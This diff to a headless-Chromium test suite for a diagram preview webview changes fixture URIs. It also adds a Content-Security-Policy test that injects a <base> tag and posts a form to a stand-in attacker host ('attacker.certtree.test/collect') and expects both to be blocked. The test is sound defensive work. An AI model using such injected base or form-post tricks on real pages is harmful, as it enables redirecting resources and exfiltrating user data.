@@ -31,7 +31,7 @@ const SOURCES = [
 ];
 
 function diagram(sequence: number, dot = treeDot()): ToWebviewMessage {
-    return { type: 'diagram', sequence, uri: 'file:///work/paths.certtree', version: sequence, view: 'paths', dot, sources: SOURCES, images: [], title: 'paths.certtree' };
+    return { type: 'diagram', sequence, uri: 'file:///project/paths.certtree', version: sequence, view: 'paths', dot, sources: SOURCES, images: [], title: 'paths.certtree' };
 }
 
 const isRendered = (sequence: number) => (message: FromWebviewMessage): message is Extract<FromWebviewMessage, { type: 'rendered' }> =>
@@ -125,7 +125,7 @@ describe('preview webview (headless Chromium, real bundle and CSP)', function ()
         await preview.page.click('button[data-zoom="in"]');
         const transform = await canvasTransform(preview);
         const saved = await preview.state();
-        assert.equal(saved?.uri, 'file:///work/paths.certtree');
+        assert.equal(saved?.uri, 'file:///project/paths.certtree');
         assert.ok(saved?.zoom && saved.zoom.scale > 0);
 
         const reloaded = await openPreviewPage(browser, { state: saved });
@@ -179,7 +179,7 @@ describe('preview webview (headless Chromium, real bundle and CSP)', function ()
         await preview.send({
             type: 'problems',
             sequence: 2,
-            uri: 'file:///work/paths.certtree',
+            uri: 'file:///project/paths.certtree',
             problems: { errorCount: 2, firstError: { message: "Unknown certification 'sec'. Did you mean <b>security</b>?", range: { start: { line: 4, character: 2 }, end: { line: 4, character: 5 } } } },
         });
         await preview.page.waitForSelector('#banner:not([hidden])');
@@ -317,6 +317,38 @@ describe('preview webview (headless Chromium, real bundle and CSP)', function ()
             );
             assert.match(directive, /^script-src/);
             assert.equal(await probe.page.evaluate(() => (window as unknown as { __injected?: boolean }).__injected), undefined);
+        } finally {
+            await probe.close();
+        }
+    });
+
+    it('enforces its Content-Security-Policy: an injected <base> and a form post are blocked', async () => {
+        // A page of its own, since this test trips the policy on purpose.
+        const probe = await openPreviewPage(browser);
+        try {
+            const blocked = await probe.page.evaluate(
+                () =>
+                    new Promise<string[]>(resolve => {
+                        const directives: string[] = [];
+                        document.addEventListener('securitypolicyviolation', event => {
+                            directives.push(event.effectiveDirective);
+                            if (directives.length === 2) resolve(directives.sort());
+                        });
+                        const base = document.createElement('base');
+                        base.href = 'https://attacker.certtree.test/';
+                        document.head.append(base);
+                        const form = document.createElement('form');
+                        form.method = 'post';
+                        form.action = 'https://attacker.certtree.test/collect';
+                        document.body.append(form);
+                        form.submit();
+                        // Without the directives nothing is reported: answer with what was seen.
+                        setTimeout(() => resolve(directives.sort()), 2_000);
+                    }),
+            );
+            assert.deepEqual(blocked, ['base-uri', 'form-action']);
+            // A blocked <base> leaves relative URLs resolving against the page itself.
+            assert.equal(await probe.page.evaluate(() => document.baseURI), 'https://webview.certtree.test/index.html');
         } finally {
             await probe.close();
         }
